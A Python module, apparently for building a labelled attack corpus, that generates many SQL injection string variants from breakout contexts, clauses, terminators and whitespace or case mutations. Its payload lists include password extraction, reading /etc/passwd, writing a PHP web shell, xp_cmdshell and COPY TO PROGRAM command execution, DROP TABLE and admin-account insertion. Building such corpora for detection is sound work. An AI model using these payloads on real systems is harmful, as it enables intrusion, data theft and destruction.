"""SQL injection: a breakout from the query's context, an injected clause, a terminator.

The clause is written with `§` for each token gap; a gap becomes a space, a comment, a tab
or a line break, and keywords get a case, so one clause yields many spellings a database
parses alike."""

from __future__ import annotations

import random
import re

from owncorpus.grammar import Attack, case, draw_distinct, one

CLASS = "sqli"
PARAMS = ("id", "user", "q", "search", "order", "category", "sort", "name", "item", "filter")

# (text that closes the application's literal, that literal's quote or "" for a number)
CONTEXTS = (
    ("'", "'"), ('"', '"'), ("')", "'"), ("'))", "'"), ('")', '"'), ("1'", "'"), ("admin'", "'"),
    ("x%'", "'"), ("1", ""), ("1)", ""), ("-1", ""), ("0", ""), ("9999", ""),
)
COLUMNS = ("NULL", "NULL,NULL", "NULL,NULL,NULL", "1,2,3", "@@version,NULL", "user(),database()",
           "version(),current_user", "username,password", "table_name,column_name", "1,CHAR(113,118)",
           "username||'~'||password", "name+':'+pass,NULL")
SOURCES = ("", "§FROM§users", "§FROM§information_schema.tables", "§FROM§information_schema.columns",
           "§FROM§mysql.user", "§FROM§pg_catalog.pg_tables", "§FROM§sqlite_master", "§FROM§dual",
           "§FROM§master..sysdatabases")
CLAUSES = (
    # tautologies
    "OR§1=1", "OR§2>1", "OR§TRUE", "||§1=1", "OR§1§LIKE§1", "OR§3§BETWEEN§1§AND§5", "OR§1§IN§(1,2)",
    "OR§NOT§1=2", "OR§0x41=0x41", "OR§'a'='a'", "OR§1=1§LIMIT§1", "AND§1=0§OR§1=1",
    # union
    "UNION§SELECT§{cols}{src}", "UNION§ALL§SELECT§{cols}{src}", "/*!50000UNION*/§SELECT§{cols}{src}",
    "UNION§DISTINCT§SELECT§{cols}{src}", "AND§1=2§UNION§SELECT§{cols}{src}",
    "UNION§SELECT§LOAD_FILE('/etc/passwd'),NULL",
    "UNION§SELECT§'<?php§system($_GET[c]);§?>'§INTO§OUTFILE§'/var/www/html/s.php'",
    # stacked
    ";§DROP§TABLE§users", ";§SELECT§pg_sleep(5)", ";§EXEC§xp_cmdshell('whoami')",
    ";§WAITFOR§DELAY§'0:0:5'", ";§INSERT§INTO§users(name,role)§VALUES('x','admin')",
    ";§UPDATE§users§SET§role='admin'§WHERE§name='x'", ";§SHUTDOWN", ";§DELETE§FROM§orders",
    ";§COPY§(SELECT§'')§TO§PROGRAM§'id'", ";§CREATE§USER§x§IDENTIFIED§BY§'x'",
    # time based
    "AND§SLEEP(5)", "OR§SLEEP(5)", "AND§(SELECT§1§FROM§(SELECT§SLEEP(5))x)", "AND§1=(SELECT§1§FROM§PG_SLEEP(5))",
    "AND§BENCHMARK(5000000,MD5(1))", "OR§IF(1=1,SLEEP(5),0)", "AND§1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "WAITFOR§DELAY§'0:0:5'", "AND§1=LIKE('ABC',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    # error based
    "AND§EXTRACTVALUE(1,CONCAT(0x7e,(SELECT§version())))", "AND§UPDATEXML(1,CONCAT(0x7e,user()),1)",
    "AND§1=CONVERT(int,@@version)", "AND§1=CAST((SELECT§version())§AS§int)",
    "AND§(SELECT§1§FROM(SELECT§COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x§FROM§information_schema.tables§GROUP§BY§x)a)",
    "AND§1=CTXSYS.DRITHSX.SN(1,(SELECT§user§FROM§dual))", "AND§GTID_SUBSET(CONCAT(0x7e,(SELECT§user())),1)",
    # boolean blind
    "AND§SUBSTRING((SELECT§password§FROM§users§LIMIT§1),1,1)='a'", "AND§ASCII(SUBSTR((SELECT§user()),1,1))>64",
    "AND§(SELECT§COUNT(*)§FROM§information_schema.tables)>0", "AND§LENGTH(database())>1",
    "AND§EXISTS(SELECT§*§FROM§users)", "AND§(SELECT§CASE§WHEN§(1=1)§THEN§1§ELSE§1/0§END)=1",
    "AND§MID(version(),1,1)='5'", "AND§ORD(MID((SELECT§IFNULL(CAST(username§AS§NCHAR),0x20)§FROM§users§LIMIT§0,1),1,1))>64",
    # structure probing
    "ORDER§BY§{n}", "GROUP§BY§1§HAVING§1=1", "PROCEDURE§ANALYSE()",
)
TERMINATORS = ("--§", "--§-", "#", "/*", ";--", ";#", "-- x", "")
GAPS = (" ", " ", "/**/", "\t", "\n", "/*x*/", "  ", "\r\n", "/*!*/")
KEYWORDS = re.compile(r"\b(OR|AND|NOT|UNION|ALL|DISTINCT|SELECT|FROM|WHERE|DROP|TABLE|EXEC|WAITFOR|DELAY|INSERT|INTO|"
                      r"VALUES|UPDATE|SET|SHUTDOWN|DELETE|COPY|TO|PROGRAM|CREATE|USER|IDENTIFIED|BY|SLEEP|BENCHMARK|"
                      r"IF|LIKE|BETWEEN|IN|LIMIT|ORDER|GROUP|HAVING|CASE|WHEN|THEN|ELSE|END|CAST|AS|CONVERT|"
                      r"SUBSTRING|SUBSTR|ASCII|LENGTH|EXISTS|MID|TRUE|OUTFILE|LOAD_FILE|EXTRACTVALUE|UPDATEXML|"
                      r"CONCAT|COUNT|PROCEDURE)\b")


def _compose(rng: random.Random) -> str:
    close, quote = one(rng, CONTEXTS)
    clause = one(rng, CLAUSES).format(cols=one(rng, COLUMNS), src=one(rng, SOURCES), n=rng.randrange(1, 30))
    if quote and rng.random() < 0.12:
        # balanced: the application's own closing quote ends the injected literal
        term = f"§OR§{quote}x{quote}={quote}x"
        clause = clause if not clause.startswith(";") else "OR§1=1"
        text = close + "§" + clause + term
    else:
        term = one(rng, TERMINATORS) if quote else one(rng, ("", "", "--§", "#", "/*"))
        lead = "" if (quote and rng.random() < 0.25) or clause.startswith(";") else "§"
        text = close + lead + clause + ("§" if term and not term.startswith(";") and rng.random() < 0.3 else "") + term
    gap_mode = rng.randrange(3)
    fixed = one(rng, GAPS)
    text = re.sub("§", lambda _m: fixed if gap_mode else one(rng, GAPS), text)
    return KEYWORDS.sub(lambda m: case(m.group(1), rng), text.strip(" ") or text)


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
